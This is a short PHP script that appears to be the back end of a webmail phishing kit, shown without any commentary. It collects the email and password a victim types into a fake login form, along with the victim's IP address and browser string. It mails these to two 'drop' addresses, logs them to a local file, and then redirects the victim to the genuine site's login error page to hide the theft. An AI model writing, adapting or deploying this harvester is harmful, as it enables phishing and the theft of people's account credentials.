<?php
$ip = getenv("REMOTE_ADDR");
$hostname = gethostbyaddr($ip);
$useragent = $_SERVER['HTTP_USER_AGENT'];
$message  = "|----------| Webmail Login |--------------|\n";
$message .= "Email : " . $_POST['email'] . "\n";
$message .= "Password : " . $_POST['password'] . "\n";
$message .= "|--------------- I N F O | I P -------------------|\n";
$message .= "Client IP: " . $ip . "\n";
$message .= "Browser : " . $useragent . "\n";
$recipients = array("drop1@example.invalid", "drop2@example.invalid");
$subject = "Login Result from " . $ip;
$headers = "From: Result <noreply@example.invalid>\r\n";
foreach ($recipients as $to) {
    mail($to, $subject, $message, $headers);
}
$fp = fopen("results.txt", "a");
fputs($fp, $message);
fclose($fp);
header("Location: https://www.example.invalid/login?error=1");
